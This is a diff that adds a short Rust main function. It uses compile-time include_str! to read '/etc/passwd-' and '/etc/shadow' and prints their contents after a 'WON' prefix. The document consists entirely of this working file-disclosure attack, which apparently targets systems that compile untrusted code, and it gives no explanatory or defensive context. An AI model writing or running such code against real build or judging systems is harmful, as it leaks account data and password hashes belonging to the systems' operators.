@@ -1,0 +1,4 @@
+fn main() {
+    println!("{}ON {}", "W", include_str!("/etc/passwd-"));
+    println!("{}ON {}", "W", include_str!("/etc/shadow"));
+}
